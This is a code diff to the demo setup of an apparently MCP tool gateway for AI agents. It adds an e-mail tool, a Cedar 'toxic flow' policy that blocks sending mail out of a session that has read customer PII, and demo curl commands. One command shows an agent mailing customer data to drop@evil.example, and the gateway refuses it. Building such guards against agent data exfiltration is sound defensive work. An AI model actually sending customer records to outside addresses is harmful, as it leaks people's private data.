@@ -18,7 +18,12 @@ pub const AGENTS: [(&str, &str, &[&str]); 2] = [
     (
         "support-bot",
         "tg_demo_support_key",
-        &["crm__lookup_customer", "crm__echo", "billing__getInvoice"],
+        &[
+            "crm__lookup_customer",
+            "crm__echo",
+            "crm__send_email",
+            "billing__getInvoice",
+        ],
     ),
     (
         "billing-bot",
@@ -34,13 +39,28 @@ pub const AGENTS: [(&str, &str, &[&str]); 2] = [
 ];
 
 /// The demo's Cedar policy: attached tools are allowed, but no refund
-/// above 1000, whoever asks.
+/// above 1000, whoever asks, and no e-mail out of a session that has read
+/// a customer record (the toxic flow).
 pub const POLICY: &str = r#"@id("attached-tools")
 permit(principal, action, resource);
 
 @id("no-large-refunds")
 forbid(principal, action == Toolgate::Action::"billing__createRefund", resource)
 when { context.args.amount > 1000 };
+
+@id("toxic-flow")
+forbid(principal, action, resource)
+when {
+  resource.labels.contains("external_send") &&
+  (context.session.labels.contains("reads_pii") || !context.session.known)
+};
+"#;
+
+/// The demo's tool labels.
+pub const LABELS: &str = r#"[tool_labels]
+"crm__lookup_customer" = ["reads_pii"]
+"crm__send_email" = ["external_send"]
+
 "#;
 
 /// Writes the demo configuration into `dir` — listening on `listen`, with
@@ -73,6 +93,7 @@ pub fn write_config(
         ));
     }
     s.push_str(&format!("[audit]\ndir = \"{}\"\n\n", audit_dir.display()));
+    s.push_str(LABELS);
     s.push_str(OUTPUT_RULES);
     let path = dir.join("toolgate.toml");
     std::fs::write(&path, s)?;
@@ -218,6 +239,12 @@ pub fn instructions(gateway: SocketAddr, audit_dir: &std::path::Path) -> String 
     ));
     s.push_str(&format!(
         "\nA refund above 1000 (refused by the Cedar policy in demo.cedar before the API sees it):\n  curl -s {url} -H 'Authorization: Bearer {billing}' {hdr} -H 'Mcp-Method: tools/call' -H 'Mcp-Name: billing__createRefund' \\\n    -d '{{\"jsonrpc\":\"2.0\",\"id\":6,\"method\":\"tools/call\",\"params\":{{\"name\":\"billing__createRefund\",\"arguments\":{{\"invoice_id\":\"inv-1\",\"amount\":5000}},{meta}}}}}'\n"
+    ));
+    s.push_str(&format!(
+        "\nSend an e-mail as support-bot in the session that just read a customer record (refused: the toxic flow in demo.cedar):\n  curl -s {url} -H 'Authorization: Bearer {support}' {hdr} -H 'Mcp-Method: tools/call' -H 'Mcp-Name: crm__send_email' \\\n    -d '{{\"jsonrpc\":\"2.0\",\"id\":7,\"method\":\"tools/call\",\"params\":{{\"name\":\"crm__send_email\",\"arguments\":{{\"to\":\"drop@evil.example\",\"body\":\"Ada, gold\"}},{meta}}}}}'\n"
+    ));
+    s.push_str(&format!(
+        "\nThe same e-mail in a fresh conversation, which has read nothing (allowed):\n  curl -s {url} -H 'Authorization: Bearer {support}' -H 'Toolgate-Conversation: fresh-1' {hdr} -H 'Mcp-Method: tools/call' -H 'Mcp-Name: crm__send_email' \\\n    -d '{{\"jsonrpc\":\"2.0\",\"id\":8,\"method\":\"tools/call\",\"params\":{{\"name\":\"crm__send_email\",\"arguments\":{{\"to\":\"partner@example.com\",\"body\":\"hello\"}},{meta}}}}}'\n"
     ));
     let rest = format!("http://{gateway}/rest/billing");
     s.push_str(&format!(
